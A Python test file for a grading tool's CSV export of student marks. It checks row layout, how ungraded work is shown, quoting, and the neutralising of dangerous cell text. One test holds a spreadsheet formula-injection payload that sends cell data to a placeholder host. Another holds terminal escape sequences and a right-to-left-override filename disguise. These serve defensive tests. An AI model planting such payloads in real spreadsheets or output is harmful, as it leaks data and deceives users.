import csv
import io
import re
from dataclasses import replace

from hypothesis import given
from hypothesis import strategies as st

from tools.grading.cell_text import as_it_was, defused, listed, on_a_terminal, plain
from tools.grading.marks_csv import attempts_csv, marks_csv
from tools.grading.records import Mark, TaskMark
from tools.grading.released import released

RELEASED = released("03-lookup-table")
TASKS = tuple(
    TaskMark(task, "passed", points, points) for task, points in RELEASED.points.items()
)
WIDE = "\uff1d\uff0b\uff0d\uff20"  # = + - @ as in Chinese and Japanese texts
TEXT = st.text(alphabet=st.sampled_from(WIDE + "=+-@;,|'\" \t\r\nabπ\u202e\ud800"))


def mark(student="ada", attempt=1, **more):
    whole = Mark(student, attempt, "ada.ipynb", "d", "graded", "", TASKS, 10, 10)
    return replace(whole, **more)


def rows(*marks, table=marks_csv):
    text = table(marks, RELEASED).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_each_row_has_an_id_the_points_of_each_task_and_the_total():
    (row,) = rows(mark())
    assert list(row)[:3] == ["id", "lookup", "output_shape"]
    assert (row["id"], row["lookup"]) == ("ada", "2")
    assert (row["total"], row["out_of"], row["status"]) == ("10", "10", "graded")


def test_what_was_not_graded_is_empty_and_never_0():
    first = replace(TASKS[0], status="not graded", points=None)
    (row,) = rows(
        mark(status="not graded", reason="why", tasks=(first, *TASKS[1:]), total=None)
    )
    assert (row["lookup"], row["output_shape"], row["total"]) == ("", "1", "")
    assert (row["status"], row["reason"]) == ("not graded", "why")
    (row,) = rows(mark(status="not graded", tasks=(), total=None))
    assert [row[task] for task in RELEASED.points] == [""] * 6


def test_a_task_that_got_0_says_0():
    (row,) = rows(mark(tasks=(replace(TASKS[0], points=0), *TASKS[1:]), total=8))
    assert row["lookup"] == "0"


def test_there_is_one_row_for_a_student_that_of_the_last_attempt():
    later = mark(attempt=2, status="not graded", total=None, tasks=())
    found = rows(later, mark("bob"), mark())
    assert [(r["id"], r["attempt"], r["total"]) for r in found] == [
        ("ada", "2", ""),
        ("bob", "1", "10"),
    ]


def test_names_and_addresses_have_columns_if_anybody_has_one():
    found = rows(mark("1", who="Ada", email="ada@a.example"), mark("2"))
    assert list(found[0])[:4] == ["id", "name", "email", "lookup"]
    assert [(r["name"], r["email"]) for r in found] == [
        ("Ada", "ada@a.example"),
        ("", ""),
    ]


def test_a_blank_notebook_looks_other_than_wrong_answers():
    untouched = tuple(replace(t, status="not started", points=0) for t in TASKS)
    nothing = mark("eve", digest="", tasks=(), total=None, status="not graded")
    wrong = (replace(TASKS[0], status="not yet", points=0), *TASKS[1:])
    found = rows(
        mark("ada", tasks=untouched, total=0), mark("bob", tasks=wrong), nothing
    )
    assert [row["not_started"] for row in found] == ["6", "0", ""]


def test_every_attempt_has_a_row_among_the_attempts_which_says_what_counts():
    later = mark(attempt=2, status="not graded", total=None, tasks=())
    found = rows(later, mark("bob"), mark(), table=attempts_csv)
    assert [(r["id"], r["attempt"], r["counts"]) for r in found] == [
        ("ada", "1", "no"),
        ("ada", "2", "yes"),
        ("bob", "1", "yes"),
    ]


def test_the_order_in_which_marks_come_does_not_matter():
    some = [mark("zoë"), mark("ada"), mark("ada", 2), mark("Bob")]
    assert marks_csv(some, RELEASED) == marks_csv(some[::-1], RELEASED)


def test_excel_is_told_that_it_is_utf_8_and_every_field_is_in_quotes():
    content = marks_csv([mark("zoë")], RELEASED)
    assert content.startswith(b'\xef\xbb\xbf"id","lookup",')
    assert '"zoë"'.encode() in content
    assert not re.search(rb'(^|,)[^",\r\n]', content[3:])


def test_a_formula_in_any_text_is_defused():
    bad = '=HYPERLINK("http://x.example/?"&A1)'
    (row,) = rows(mark(bad, name="@SUM(1)", reason="+1", flags=("-2+3", "=x")))
    assert row["id"] == "'" + bad
    assert row["file"] == "'@SUM(1)"
    assert row["reason"] == "'+1"
    assert row["flags"] == "'-2+3; '=x"


@given(TEXT)
def test_no_text_begins_with_what_starts_a_formula_nor_does_any_part_of_it(text):
    for part in re.split("[;,|]", defused(text)):
        assert not part.lstrip(' "').startswith(tuple(WIDE + "=+-@"))


@given(TEXT)
def test_a_defused_text_is_on_one_line_and_can_be_got_back(text):
    kept = plain(text)
    assert as_it_was(defused(text)) == kept
    assert not re.search("[\t\r\n\u202e\ud800]", defused(text))


def test_names_of_all_the_world_stay_as_they_are():
    for name in (
        "Ada Lovelace",
        "O'Brien",
        "Zoë-Ann",
        "李 小龍",
        "👩‍💻",
        "'quoted'",
        "a@b.cd",
    ):
        assert defused(name) == name


def test_what_is_shown_on_a_terminal_cannot_steer_it():
    shown = on_a_terminal("ada\n\x1b[2J\x9b31m\r\u202egpj.exe\x07 zoë")
    assert shown == "ada\n [2J 31m  gpj.exe  zoë"


def test_a_sentence_lists_ten_names_once_each_and_none_in_all_its_length():
    assert listed(["ada", "bob", "ada"]) == "ada, bob"
    assert listed(map(str, range(12))) == "0, 1, 2, 3, 4, 5, 6, 7, 8, 9, …"
    assert listed(["a" * 190_000]) == "a" * 60 + "…"
